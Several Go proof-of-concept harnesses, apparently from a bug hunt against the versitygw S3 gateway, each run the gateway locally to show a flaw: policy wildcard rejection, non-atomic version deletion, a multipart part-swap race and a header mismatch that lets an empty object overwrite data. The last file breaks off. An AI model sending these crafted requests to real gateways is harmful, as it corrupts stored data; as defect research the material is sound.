		fmt.Println("create bucket:", st, b)
		return 2
	}

	// previous policy: exact action name, accepted
	prev := `{"Statement":[{"Effect":"Allow","Principal":"alice","Action":"s3:GetBucketTagging","Resource":"arn:aws:s3:::bkt"}]}`
	if st, b := root("PUT", "/bkt", "policy", []byte(prev)); st != 200 {
		fmt.Println("put previous policy:", st, b)
		return 2
	}
	// the same kind of statement with a trailing-* action: s3:List* names
	// s3:ListBucket, s3:ListBucketVersions, s3:ListBucketMultipartUploads
	// (bucket actions) and s3:ListMultipartUploadParts (object action)
	pol := `{"Statement":[{"Effect":"Allow","Principal":"alice","Action":"s3:List*","Resource":"arn:aws:s3:::bkt"}]}`
	st, body := root("PUT", "/bkt", "policy", []byte(pol))
	ls, _ := alice("GET", "/bkt", "", nil)
	fmt.Printf("PutBucketPolicy(Action s3:List*, Resource arn:aws:s3:::bkt) = %d ; alice ListObjects = %d\n", st, ls)

	// how many trailing-* patterns that do match a bucket action are refused on a bucket resource
	seen := map[string]bool{}
	var refused []string
	total := 0
	for _, a := range bucketActions {
		for i := len("s3:") + 1; i <= len(a); i++ {
			p := a[:i] + "*"
			if seen[p] {
				continue
			}
			seen[p] = true
			total++
			doc := fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":"*","Action":"%s","Resource":"arn:aws:s3:::bkt"}]}`, p)
			if err := auth.ValidatePolicyDocument([]byte(doc), "bkt", g.iam); err != nil {
				refused = append(refused, p)
			}
		}
	}
	sort.Strings(refused)
	fmt.Printf("%d of %d trailing-* patterns that match a bucket action are refused with a bucket resource, e.g. %s\n",
		len(refused), total, strings.Join(pick(refused, "s3:Get*", "s3:Put*", "s3:List*", "s3:Delete*"), " "))

	if st != 200 || ls != 200 {
		msg := body
		if i := strings.Index(body, "<Message>"); i >= 0 {
			msg = body[i+9 : strings.Index(body, "</Message>")]
		}
		fmt.Printf("VIOLATION: valid policy (s3:List* matches s3:ListBucket, a bucket action; resource is the bucket) refused: %q; alice cannot be granted ListBucket this way\n", msg)
		return 1
	}
	fmt.Println("property holds")
	return 0
}

func pick(all []string, want ...string) []string {
	var out []string
	for _, w := range want {
		for _, a := range all {
			if a == w {
				out = append(out, a)
			}
		}
	}
	return out
}
