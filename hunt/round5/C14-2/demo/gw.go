//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	rootAccess = "rootaccess"
	rootSecret = "rootsecret"
	region     = "us-east-1"
)

type gateway struct {
	addr string
	iam  auth.IAMService
	dir  string
}

func must(err error) {
	if err != nil {
		fmt.Println("setup error:", err)
		os.Exit(2)
	}
}

// startGateway runs the real gateway (s3api.New + posix backend) in-process.
func startGateway() *gateway {
	dir, err := os.MkdirTemp("/dev/shm", "hunt-c14-")
	must(err)
	must(os.MkdirAll(dir+"/data", 0o755))
	must(os.MkdirAll(dir+"/iam", 0o755))

	be, err := posix.New(dir+"/data", meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0o755})
	must(err)

	// silence the "initializing internal IAM" banner
	so := os.Stdout
	os.Stdout, _ = os.Open(os.DevNull)
	iam, err := auth.New(&auth.Opts{
		RootAccount:  auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin},
		Dir:          dir + "/iam",
		CacheDisable: true,
	})
	os.Stdout = so
	must(err)

	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		DisableStartupMessage: true,
	})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(err)
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet())
	must(err)
	go func() { _ = app.Listener(ln) }()
	time.Sleep(100 * time.Millisecond)
	return &gateway{addr: ln.Addr().String(), iam: iam, dir: dir}
}

func (g *gateway) cleanup() { os.RemoveAll(g.dir) }

// do sends one SigV4 signed request; rawPath is sent on the wire as given
// (already percent-encoded), query without leading '?'.
func (g *gateway) do(access, secret, method, rawPath, query string, body []byte, hdr map[string]string) (int, string) {
	u := "http://" + g.addr + rawPath
	if query != "" {
		u += "?" + query
	}
	req, err := http.NewRequest(method, u, bytes.NewReader(body))
	must(err)
	sum := sha256.Sum256(body)
	hash := hex.EncodeToString(sum[:])
	req.Header.Set("X-Amz-Content-Sha256", hash)
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	signer := v4.NewSigner(func(o *v4.SignerOptions) { o.DisableURIPathEscaping = true })
	must(signer.SignHTTP(context.Background(), aws.Credentials{AccessKeyID: access, SecretAccessKey: secret},
		req, hash, "s3", region, time.Now()))
	resp, err := http.DefaultClient.Do(req)
	must(err)
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}
