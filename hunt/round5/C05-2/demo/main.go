//go:build huntdemo

// DeleteObject with the version id of the CURRENT version (versioning
// Enabled, gateway started with a versioning directory) promotes the
// previous version in three separate steps: unlink the object, publish a
// copy of the previous version's bytes, copy its attributes by path.
// Concurrent requests on the key see the steps.
//
// The real posix backend is driven directly. The only instrumentation is a
// wrapper around the xattr metadata store with two one-shot yield points at
// calls DeleteObject makes between those steps.
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3err"
	"github.com/versity/versitygw/s3response"
)

const (
	bucket = "bkt"
	key    = "k"
)

type gate struct {
	armed   bool
	arrived chan chan struct{}
}

// gatedMeta is meta.XattrMeta plus two one-shot yield points.
type gatedMeta struct {
	meta.XattrMeta
	mu   sync.Mutex
	vdir string
	// g1: DeleteObject has unlinked the object (meta.DeleteAttributes(bucket, key))
	// g2: DeleteObject has published the previous version's bytes and is
	//     about to copy its attributes (meta.ListAttributes(<version dir>, <id>))
	g1, g2 gate
}

func (g *gatedMeta) park(gt *gate) {
	g.mu.Lock()
	armed := gt.armed
	gt.armed = false
	g.mu.Unlock()
	if armed {
		resume := make(chan struct{})
		gt.arrived <- resume
		<-resume
	}
}

func (g *gatedMeta) DeleteAttributes(bkt, obj string) error {
	if bkt == bucket && obj == key {
		g.park(&g.g1)
	}
	return g.XattrMeta.DeleteAttributes(bkt, obj)
}

func (g *gatedMeta) ListAttributes(bkt, obj string) ([]string, error) {
	if strings.HasPrefix(bkt, g.vdir) {
		g.park(&g.g2)
	}
	return g.XattrMeta.ListAttributes(bkt, obj)
}

func (g *gatedMeta) arm() {
	g.mu.Lock()
	g.g1.armed, g.g2.armed = true, true
	g.mu.Unlock()
}

func ptr[T any](v T) *T { return &v }

func errStr(err error) string {
	if err == nil {
		return "<nil>"
	}
	var ae s3err.APIError
	if errors.As(err, &ae) {
		return fmt.Sprintf("%d %s", ae.HTTPStatusCode, ae.Code)
	}
	return err.Error()
}

func fatal(format string, a ...any) {
	fmt.Printf("SETUP PROBLEM: "+format+"\n", a...)
	os.Exit(2)
}

func put(be *posix.Posix, body, ctype string, md map[string]string) (s3response.PutObjectOutput, error) {
	return be.PutObject(context.Background(), s3response.PutObjectInput{
		Bucket:        ptr(bucket),
		Key:           ptr(key),
		ContentLength: ptr(int64(len(body))),
		ContentType:   ptr(ctype),
		Metadata:      md,
		Body:          strings.NewReader(body),
	})
}

type view struct {
	body, etag, vid, ctype string
	md                     map[string]string
	err                    error
}

func (v view) String() string {
	if v.err != nil {
		return "error " + errStr(v.err)
	}
	return fmt.Sprintf("body=%q ETag=%s VersionId=%q Content-Type=%q metadata=%v", v.body, v.etag, v.vid, v.ctype, v.md)
}

func get(be *posix.Posix, versionId string) view {
	in := &s3.GetObjectInput{Bucket: ptr(bucket), Key: ptr(key), Range: ptr("")}
	if versionId != "" {
		in.VersionId = &versionId
	}
	out, err := be.GetObject(context.Background(), in)
	if err != nil {
		return view{err: err}
	}
	defer out.Body.Close()
	b, err := io.ReadAll(out.Body)
	if err != nil {
		return view{err: err}
	}
	v := view{body: string(b), md: out.Metadata}
	if out.ETag != nil {
		v.etag = *out.ETag
	}
	if out.VersionId != nil {
		v.vid = *out.VersionId
	}
	if out.ContentType != nil {
		v.ctype = *out.ContentType
	}
	return v
}

func waitArrival(gt *gate, who string) chan struct{} {
	select {
	case r := <-gt.arrived:
		return r
	case <-time.After(10 * time.Second):
		fatal("%s never reached the yield point", who)
	}
	return nil
}

func main() {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c05-2-")
	if err != nil {
		fatal("mkdir: %v", err)
	}
	defer os.RemoveAll(base)
	root := base + "/root"
	vdir := base + "/versions"
	os.Mkdir(root, 0755)
	os.Mkdir(vdir, 0755)

	g := &gatedMeta{vdir: vdir}
	g.g1.arrived = make(chan chan struct{}, 1)
	g.g2.arrived = make(chan chan struct{}, 1)
	be, err := posix.New(root, g, posix.PosixOpts{NewDirPerm: 0755, VersioningDir: vdir})
	if err != nil {
		fatal("posix.New: %v", err)
	}
	ctx := context.Background()
	if err := be.CreateBucket(ctx, &s3.CreateBucketInput{Bucket: ptr(bucket)}, []byte("{}")); err != nil {
		fatal("create bucket: %v", err)
	}
	if err := be.PutBucketVersioning(ctx, bucket, types.BucketVersioningStatusEnabled); err != nil {
		fatal("enable versioning: %v", err)
	}

	r1, err := put(be, "body-1", "type/one", map[string]string{"writer": "1"})
	if err != nil {
		fatal("put 1: %v", err)
	}
	r2, err := put(be, "body-2", "type/two", map[string]string{"writer": "2"})
	if err != nil {
		fatal("put 2: %v", err)
	}
	fmt.Printf("PUT 1 acknowledged: VersionId %s ETag %s\n", r1.VersionID, r1.ETag)
	fmt.Printf("PUT 2 acknowledged: VersionId %s ETag %s\n", r2.VersionID, r2.ETag)
	fmt.Printf("GET k before the delete       -> %v\n", get(be, ""))
	fmt.Println("(the key has two versions; DELETE k?versionId=<2> must leave version 1 current: at every instant GET k is version 2 or version 1)")

	var problems []string

	g.arm()
	delDone := make(chan error, 1)
	go func() {
		_, err := be.DeleteObject(ctx, &s3.DeleteObjectInput{Bucket: ptr(bucket), Key: ptr(key), VersionId: &r2.VersionID})
		delDone <- err
	}()

	// step 1 done: object unlinked
	resume1 := waitArrival(&g.g1, "DELETE (g1)")
	v := get(be, "")
	fmt.Printf("GET k after DELETE's unlink   -> %v\n", v)
	if v.err != nil {
		problems = append(problems, fmt.Sprintf("GET k answered %s while the key had a current version throughout", errStr(v.err)))
	}
	v1 := get(be, r1.VersionID)
	fmt.Printf("GET k?versionId=<1> then      -> %v\n", v1)
	if v1.err != nil {
		problems = append(problems, fmt.Sprintf("GET k?versionId=<1> answered %s although version 1 was never deleted", errStr(v1.err)))
	}
	close(resume1)

	// step 2 done: bytes of version 1 published, attributes not yet
	resume2 := waitArrival(&g.g2, "DELETE (g2)")
	v = get(be, "")
	fmt.Printf("GET k after DELETE's publish  -> %v\n", v)
	if v.err == nil && (v.etag != r1.ETag || v.md["writer"] != "1") {
		problems = append(problems, fmt.Sprintf("GET k returned %q with ETag %q and metadata %v (that write's ETag is %s, metadata writer=1)", v.body, v.etag, v.md, r1.ETag))
	}

	// an upload that is acknowledged while DELETE sits between step 2 and 3
	rC, err := put(be, "body-C", "type/C", map[string]string{"writer": "C"})
	if err != nil {
		fatal("put C: %v", err)
	}
	fmt.Printf("PUT C acknowledged: VersionId %s ETag %s\n", rC.VersionID, rC.ETag)
	close(resume2)
	if err := <-delDone; err != nil {
		fatal("delete: %v", err)
	}
	fmt.Println("DELETE k?versionId=<2> acknowledged")

	// everything has returned; sequential reads
	v = get(be, "")
	fmt.Printf("GET k at the end              -> %v\n", v)
	if v.err == nil && v.body == "body-C" && (v.etag != rC.ETag || v.vid != rC.VersionID || v.md["writer"] != "C") {
		problems = append(problems, fmt.Sprintf("final GET k returns PUT C's body with ETag %s, VersionId %s, metadata %v: those of write 1 (PUT C was acknowledged with ETag %s, VersionId %s)", v.etag, v.vid, v.md, rC.ETag, rC.VersionID))
	}
	vC := get(be, rC.VersionID)
	fmt.Printf("GET k?versionId=<C> at the end-> %v\n", vC)
	if vC.err != nil {
		problems = append(problems, fmt.Sprintf("GET k?versionId=<C> answers %s for an acknowledged version", errStr(vC.err)))
	}

	if len(problems) > 0 {
		fmt.Printf("VIOLATION: DELETE of the current version promotes its predecessor non-atomically: %s\n", strings.Join(problems, "; "))
		os.RemoveAll(base)
		os.Exit(1)
	}
	fmt.Println("OK")
}
