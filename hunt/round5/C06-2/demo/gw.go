//go:build huntdemo

package main

import (
	"bufio"
	"bytes"
	"crypto/hmac"
	"crypto/md5"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"io"
	"net/http"
	"net/url"
	"os"
	"sort"
	"strings"
	"time"

	"github.com/gofiber/fiber/v2"
	"github.com/valyala/fasthttp/fasthttputil"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	access = "root"
	secret = "rootsecret"
	region = "us-east-1"
	host   = "gw.local"
)

type gw struct {
	ln   *fasthttputil.InmemoryListener
	root string
	be   backend.Backend
}

type gwOpts struct {
	sidecar    bool
	versioning bool
	noTmpFile  bool
	wrapMeta   func(meta.MetadataStorer) meta.MetadataStorer
}

func newGW(o gwOpts) *gw {
	base, err := os.MkdirTemp("/dev/shm", "hunt-C06-")
	must(err)
	root := base + "/root"
	must(os.MkdirAll(root, 0755))
	var ms meta.MetadataStorer = meta.XattrMeta{}
	popts := posix.PosixOpts{NewDirPerm: 0755, ForceNoTmpFile: o.noTmpFile}
	if o.sidecar {
		must(os.MkdirAll(base+"/sidecar", 0755))
		sc, err := meta.NewSideCar(base + "/sidecar")
		must(err)
		ms = sc
		popts.SideCarDir = base + "/sidecar"
	}
	if o.versioning {
		must(os.MkdirAll(base+"/versions", 0755))
		popts.VersioningDir = base + "/versions"
	}
	if o.wrapMeta != nil {
		ms = o.wrapMeta(ms)
	}
	be, err := posix.New(root, ms, popts)
	must(err)
	return serve(be, base)
}

func serve(be backend.Backend, base string) *gw {
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		DisableStartupMessage: true,
	})
	iam := auth.NewIAMServiceSingle(auth.Account{Access: access, Secret: secret, Role: auth.RoleAdmin})
	_, err := s3api.New(app, be, middlewares.RootUserConfig{Access: access, Secret: secret},
		":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet())
	must(err)
	ln := fasthttputil.NewInmemoryListener()
	go app.Listener(ln)
	return &gw{ln: ln, root: base, be: be}
}

func (g *gw) close() {
	g.ln.Close()
	os.RemoveAll(g.root)
}

func must(err error) {
	if err != nil {
		fmt.Println("harness error:", err)
		os.Exit(2)
	}
}

func hm(k, d []byte) []byte { h := hmac.New(sha256.New, k); h.Write(d); return h.Sum(nil) }

func signingKey(t time.Time) []byte {
	k := hm([]byte("AWS4"+secret), []byte(t.Format("20060102")))
	k = hm(k, []byte(region))
	k = hm(k, []byte("s3"))
	return hm(k, []byte("aws4_request"))
}

func sha256hex(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }
func md5b64(b []byte) string    { s := md5.Sum(b); return base64.StdEncoding.EncodeToString(s[:]) }
func md5hex(b []byte) string    { s := md5.Sum(b); return hex.EncodeToString(s[:]) }
func crc32b64(b []byte) string {
	h := crc32.NewIEEE()
	h.Write(b)
	return base64.StdEncoding.EncodeToString(h.Sum(nil))
}

type req struct {
	method  string
	path    string // "/bucket/key"
	query   url.Values
	hdr     map[string]string // lower-case names
	payload string            // value of x-amz-content-sha256
	body    []byte            // raw bytes sent
	t       time.Time
	// filled by sign
	seedSig string
	// raw tweaks
	contentLength *int     // override the Content-Length sent on the wire
	teChunked     bool     // send with Transfer-Encoding: chunked
	rawHdr        []string // extra raw header lines (not signed)
	closeAfter    bool     // close the connection after writing (truncated body)
}

func (r *req) canonQuery() string {
	if len(r.query) == 0 {
		return ""
	}
	keys := make([]string, 0, len(r.query))
	for k := range r.query {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var parts []string
	for _, k := range keys {
		for _, v := range r.query[k] {
			parts = append(parts, url.QueryEscape(k)+"="+url.QueryEscape(v))
		}
	}
	return strings.Join(parts, "&")
}

// sign computes the Authorization header (host, x-amz-*, content-md5 are signed)
func (r *req) sign() {
	if r.t.IsZero() {
		r.t = time.Now().UTC()
	}
	if r.hdr == nil {
		r.hdr = map[string]string{}
	}
	r.hdr["host"] = host
	r.hdr["x-amz-date"] = r.t.Format("20060102T150405Z")
	r.hdr["x-amz-content-sha256"] = r.payload
	var names []string
	for k := range r.hdr {
		if k == "host" || k == "content-md5" || strings.HasPrefix(k, "x-amz-") {
			names = append(names, k)
		}
	}
	sort.Strings(names)
	var ch strings.Builder
	for _, n := range names {
		ch.WriteString(n + ":" + strings.TrimSpace(r.hdr[n]) + "\n")
	}
	signed := strings.Join(names, ";")
	creq := r.method + "\n" + r.path + "\n" + r.canonQuery() + "\n" + ch.String() + "\n" + signed + "\n" + r.payload
	scope := r.t.Format("20060102") + "/" + region + "/s3/aws4_request"
	sts := "AWS4-HMAC-SHA256\n" + r.hdr["x-amz-date"] + "\n" + scope + "\n" + sha256hex([]byte(creq))
	r.seedSig = hex.EncodeToString(hm(signingKey(r.t), []byte(sts)))
	r.hdr["authorization"] = fmt.Sprintf("AWS4-HMAC-SHA256 Credential=%s/%s,SignedHeaders=%s,Signature=%s", access, scope, signed, r.seedSig)
}

type resp struct {
	status int
	hdr    http.Header
	body   []byte
}

func (r resp) String() string {
	b := string(r.body)
	if i := strings.Index(b, "<Code>"); i >= 0 {
		if j := strings.Index(b, "</Code>"); j > i {
			return fmt.Sprintf("%d %s", r.status, b[i+6:j])
		}
	}
	return fmt.Sprintf("%d", r.status)
}

// send writes the request on a fresh in-memory connection
func (g *gw) send(r *req) resp {
	c, err := g.ln.Dial()
	must(err)
	defer c.Close()
	var b bytes.Buffer
	target := r.path
	if q := r.canonQuery(); q != "" {
		target += "?" + q
	}
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", r.method, target)
	for k, v := range r.hdr {
		fmt.Fprintf(&b, "%s: %s\r\n", k, v)
	}
	for _, l := range r.rawHdr {
		b.WriteString(l + "\r\n")
	}
	if r.teChunked {
		b.WriteString("Transfer-Encoding: chunked\r\n\r\n")
		if len(r.body) > 0 {
			fmt.Fprintf(&b, "%x\r\n", len(r.body))
			b.Write(r.body)
			b.WriteString("\r\n")
		}
		b.WriteString("0\r\n\r\n")
	} else {
		cl := len(r.body)
		if r.contentLength != nil {
			cl = *r.contentLength
		}
		fmt.Fprintf(&b, "Content-Length: %d\r\n\r\n", cl)
		b.Write(r.body)
	}
	if r.closeAfter {
		c.Write(b.Bytes())
		time.Sleep(50 * time.Millisecond)
		c.Close()
		time.Sleep(100 * time.Millisecond)
		return resp{status: -2}
	}
	go func() {
		c.Write(b.Bytes())
	}()
	hr, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return resp{status: -1, body: []byte(err.Error())}
	}
	body, _ := io.ReadAll(hr.Body)
	return resp{status: hr.StatusCode, hdr: hr.Header, body: body}
}

func (g *gw) do(method, path string, q url.Values, hdr map[string]string, body []byte) resp {
	r := &req{method: method, path: path, query: q, hdr: hdr, payload: sha256hex(body), body: body}
	r.sign()
	return g.send(r)
}

// ---- aws-chunked encoders ----

const emptySHA = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

func split(data []byte, n int) [][]byte {
	var out [][]byte
	for len(data) > 0 {
		k := n
		if k > len(data) {
			k = len(data)
		}
		out = append(out, data[:k])
		data = data[k:]
	}
	return out
}

// signedChunks encodes chunks with the chunk signature chain starting at seed.
// trailerName "" = no trailer.
func signedChunks(t time.Time, seed string, chunks [][]byte, trailerName, trailerVal string) []byte {
	var b bytes.Buffer
	prev := seed
	scope := t.Format("20060102") + "/" + region + "/s3/aws4_request"
	ts := t.Format("20060102T150405Z")
	all := append(append([][]byte{}, chunks...), []byte{})
	for i, c := range all {
		sts := "AWS4-HMAC-SHA256-PAYLOAD\n" + ts + "\n" + scope + "\n" + prev + "\n" + emptySHA + "\n" + sha256hex(c)
		sig := hex.EncodeToString(hm(signingKey(t), []byte(sts)))
		prev = sig
		fmt.Fprintf(&b, "%x;chunk-signature=%s\r\n", len(c), sig)
		if i < len(all)-1 {
			b.Write(c)
			b.WriteString("\r\n")
		}
	}
	if trailerName != "" {
		tr := trailerName + ":" + trailerVal + "\n"
		sts := "AWS4-HMAC-SHA256-TRAILER\n" + ts + "\n" + scope + "\n" + prev + "\n" + sha256hex([]byte(tr))
		sig := hex.EncodeToString(hm(signingKey(t), []byte(sts)))
		fmt.Fprintf(&b, "%s:%s\r\nx-amz-trailer-signature:%s\r\n\r\n", trailerName, trailerVal, sig)
	} else {
		b.WriteString("\r\n")
	}
	return b.Bytes()
}

func unsignedChunks(chunks [][]byte, trailerName, trailerVal string) []byte {
	var b bytes.Buffer
	for _, c := range chunks {
		fmt.Fprintf(&b, "%x\r\n", len(c))
		b.Write(c)
		b.WriteString("\r\n")
	}
	fmt.Fprintf(&b, "0\r\n%s:%s\r\n\r\n", trailerName, trailerVal)
	return b.Bytes()
}
