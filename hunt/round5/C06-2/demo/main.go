//go:build huntdemo

// Demo for C06 finding 2: CompleteMultipartUpload verifies the part list
// (ETag, size, per-part checksum) against the part files and afterwards opens
// the part files again, by path, to assemble the object. An UploadPart that
// replaces a part between the two steps gets its bytes committed under the
// ETag and the x-amz-checksum-crc32 the completion asserted for the OLD bytes.
//
// The schedule is made deterministic by wrapping the metadata store: the
// first read of the bucket's object-lock attribute during the completion
// (auth.CheckObjectAccess, called by CompleteMultipartUpload between its
// verification loop and its assembly loop) runs the competing UploadPart to
// the end before it returns.
package main

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"hash/crc32"
	"net/url"
	"os"
	"regexp"
	"sync/atomic"

	"github.com/versity/versitygw/backend/meta"
)

var uploadIDRe = regexp.MustCompile(`<UploadId>([^<]*)</UploadId>`)

type hookMeta struct {
	meta.MetadataStorer
	armed atomic.Bool
	hook  func()
}

func (h *hookMeta) RetrieveAttribute(f *os.File, bucket, object, attribute string) ([]byte, error) {
	if object == "" && attribute == "bucket-lock" && h.armed.CompareAndSwap(true, false) {
		h.hook()
	}
	return h.MetadataStorer.RetrieveAttribute(f, bucket, object, attribute)
}

func crcBytes(b []byte) []byte {
	h := crc32.NewIEEE()
	h.Write(b)
	return h.Sum(nil)
}

func main() { os.Exit(run()) }

type harnessFail struct{}

func run() int {
	hm := &hookMeta{}
	g := newGW(gwOpts{wrapMeta: func(m meta.MetadataStorer) meta.MetadataStorer {
		hm.MetadataStorer = m
		return hm
	}})
	defer g.close()
	defer func() {
		if r := recover(); r != nil {
			if _, ok := r.(harnessFail); !ok {
				panic(r)
			}
			g.close()
			os.Exit(2)
		}
	}()

	if r := g.do("PUT", "/bkt", nil, nil, nil); r.status != 200 {
		fmt.Println("harness: create bucket:", r)
		panic(harnessFail{})
	}
	key := "/bkt/obj"
	partA := []byte("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA") // what the completion names
	partB := []byte("BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB")                     // uploaded while it runs

	cr := g.do("POST", key, url.Values{"uploads": {""}},
		map[string]string{"x-amz-checksum-algorithm": "CRC32", "x-amz-checksum-type": "COMPOSITE"}, nil)
	m := uploadIDRe.FindSubmatch(cr.body)
	if m == nil {
		fmt.Println("harness: create upload:", cr, string(cr.body))
		panic(harnessFail{})
	}
	id := string(m[1])
	partQ := url.Values{"uploadId": {id}, "partNumber": {"1"}}
	pa := g.do("PUT", key, partQ, map[string]string{"x-amz-checksum-crc32": crc32b64(partA)}, partA)
	if pa.status != 200 {
		fmt.Println("harness: upload part:", pa, string(pa.body))
		panic(harnessFail{})
	}

	// the composite checksum of an object made of part A only
	h := crc32.NewIEEE()
	h.Write(crcBytes(partA))
	compositeA := base64.StdEncoding.EncodeToString(h.Sum(nil))

	var pb resp
	hm.hook = func() {
		pb = g.do("PUT", key, partQ, map[string]string{"x-amz-checksum-crc32": crc32b64(partB)}, partB)
	}
	hm.armed.Store(true)

	body := []byte(`<CompleteMultipartUpload><Part><PartNumber>1</PartNumber><ETag>` + pa.hdr.Get("ETag") +
		`</ETag><ChecksumCRC32>` + crc32b64(partA) + `</ChecksumCRC32></Part></CompleteMultipartUpload>`)
	res := g.do("POST", key, url.Values{"uploadId": {id}},
		map[string]string{"x-amz-checksum-crc32": compositeA, "x-amz-mp-object-size": fmt.Sprint(len(partA))}, body)

	gr := g.do("GET", key, nil, map[string]string{"x-amz-checksum-mode": "ENABLED"}, nil)
	fmt.Printf("UploadPart(1)=A (%d bytes) -> %s ETag %s\n", len(partA), pa, pa.hdr.Get("ETag"))
	fmt.Printf("UploadPart(1)=B (%d bytes), run between verification and assembly -> %s ETag %s\n", len(partB), pb, pb.hdr.Get("ETag"))
	fmt.Printf("Complete{part 1: ETag(A), ChecksumCRC32(A)}, x-amz-checksum-crc32=%s (composite of A), x-amz-mp-object-size=%d -> %s\n", compositeA, len(partA), res)
	fmt.Printf("GET -> %d, %d bytes %.12q..., ETag %s, x-amz-checksum-crc32 %s\n", gr.status, len(gr.body), gr.body, gr.hdr.Get("ETag"), gr.hdr.Get("x-amz-checksum-crc32"))

	if pb.status != 200 {
		fmt.Println("harness: the competing UploadPart did not run:", pb)
		panic(harnessFail{})
	}
	if res.status == 200 && gr.status == 200 && !bytes.Equal(gr.body, partA) {
		fmt.Printf("C06 VIOLATED: the completion asserted part 1 = ETag/CRC32 of A, object checksum %s and %d bytes and was acknowledged, but the key holds the %d bytes of B (published with the ETag and checksum derived from A)\n",
			compositeA, len(partA), len(gr.body))
		return 1
	}
	fmt.Println("C06 holds: the completion was refused or committed exactly the bytes it had verified")
	return 0
}
