//go:build huntdemo

// Demo for C06 finding 3: utils.IsBigDataAction (which decides whether the
// body is streamed to the backend through the verifying readers) and
// S3ApiController.PutActions (which decides what the request is) disagree for
// two request shapes. The body is then consumed and verified by the
// authentication middleware only, PutObject / UploadPart get an EMPTY reader,
// and the declared decoded length is the only thing that decides the outcome:
// with X-Amz-Decoded-Content-Length: 0 a request that delivers N bytes (whose
// SHA256 and Content-MD5 are correct) is acknowledged and an empty object /
// part replaces the previous one.
package main

import (
	"fmt"
	"net/url"
	"os"
	"regexp"
	"strings"
)

var uploadIDRe = regexp.MustCompile(`<UploadId>([^<]*)</UploadId>`)
var partRe = regexp.MustCompile(`<ETag>([^<]*)</ETag>.*?<Size>([^<]*)</Size>`)

func main() { os.Exit(run()) }

type harnessFail struct{}

func run() int {
	g := newGW(gwOpts{})
	defer g.close()
	defer func() {
		if r := recover(); r != nil {
			if _, ok := r.(harnessFail); !ok {
				panic(r)
			}
			g.close()
			os.Exit(2)
		}
	}()
	if r := g.do("PUT", "/bkt", nil, nil, nil); r.status != 200 {
		fmt.Println("harness: create bucket:", r)
		panic(harnessFail{})
	}
	old := []byte("the old content of the key")
	data := []byte("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") // 62 bytes
	violations := 0

	// --- PutObject, X-Amz-Copy-Source: "/" ---
	key := "/bkt/obj"
	if r := g.do("PUT", key, nil, nil, old); r.status != 200 {
		fmt.Println("harness: seed:", r)
		panic(harnessFail{})
	}
	res := g.do("PUT", key, nil, map[string]string{
		"x-amz-copy-source":            "/",
		"x-amz-decoded-content-length": "0",
		"content-md5":                  md5b64(data),
	}, data)
	gr := g.do("GET", key, nil, nil, nil)
	fmt.Printf("PutObject   %d byte body, correct SHA256 and Content-MD5, X-Amz-Decoded-Content-Length: 0, X-Amz-Copy-Source: \"/\" -> %s (ETag %s); GET -> %d, %d bytes, ETag %s\n",
		len(data), res, res.hdr.Get("ETag"), gr.status, len(gr.body), gr.hdr.Get("ETag"))
	if res.status < 400 || string(gr.body) != string(old) {
		violations++
	}

	// --- UploadPart, "acl" among the query arguments ---
	mp := "/bkt/mp"
	cr := g.do("POST", mp, url.Values{"uploads": {""}}, nil, nil)
	m := uploadIDRe.FindSubmatch(cr.body)
	if m == nil {
		fmt.Println("harness: create upload:", cr, string(cr.body))
		panic(harnessFail{})
	}
	id := string(m[1])
	if r := g.do("PUT", mp, url.Values{"uploadId": {id}, "partNumber": {"1"}}, nil, old); r.status != 200 {
		fmt.Println("harness: seed part:", r)
		panic(harnessFail{})
	}
	res = g.do("PUT", mp, url.Values{"uploadId": {id}, "partNumber": {"1"}, "acl": {""}}, map[string]string{
		"x-amz-decoded-content-length": "0",
		"content-md5":                  md5b64(data),
	}, data)
	lp := g.do("GET", mp, url.Values{"uploadId": {id}}, nil, nil)
	pm := partRe.FindSubmatch([]byte(strings.ReplaceAll(string(lp.body), "\n", "")))
	etag, size := "", ""
	if pm != nil {
